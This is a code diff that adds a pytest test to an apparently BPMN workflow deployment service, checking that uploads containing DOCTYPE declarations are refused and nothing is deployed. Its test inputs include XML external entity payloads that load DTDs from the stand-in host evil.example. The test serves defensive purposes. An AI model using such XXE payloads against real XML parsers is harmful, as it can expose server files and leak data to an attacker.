@@ -172,3 +172,20 @@ def test_conformance_diagram_deploys_or_is_refused_precisely(app, as_user, path)
             element = tree.xpath("//*[@id=$id]", id=problem["element_id"])[0]
             last_line = max(e.sourceline for e in element.iter())
             assert element.sourceline <= problem["line"] <= last_line + 1, problem
+
+
+@pytest.mark.parametrize("doctype", [
+    '<!DOCTYPE definitions [<!ENTITY % remote SYSTEM "http://evil.example/x.dtd"> %remote;]>',
+    '<!DOCTYPE definitions SYSTEM "http://evil.example/bpmn.dtd">',
+    '<!DOCTYPE definitions [<!ENTITY name "Triage">]>',
+])
+def test_a_doctype_is_refused_and_nothing_is_deployed(as_user, app, tmp_path, doctype):
+    owner = as_user("procesbeheerder")
+    text = (FIXTURES / "basic" / "simple_case.bpmn").read_text()
+    head, rest = text.split("\n", 1) if text.startswith("<?xml") else ("", text)
+    (tmp_path / "simple_case.bpmn").write_text(f"{head}\n{doctype}\n{rest}")
+    forms = [p for p in BASIC if p.suffix == ".form"]
+    refused = upload(owner, [tmp_path / "simple_case.bpmn", *forms], expect=422)
+    assert refused["errors"][0]["file"] == "simple_case.bpmn"
+    assert "DOCTYPE" in refused["errors"][0]["message"]
+    assert deployed_file_count(app) == 0
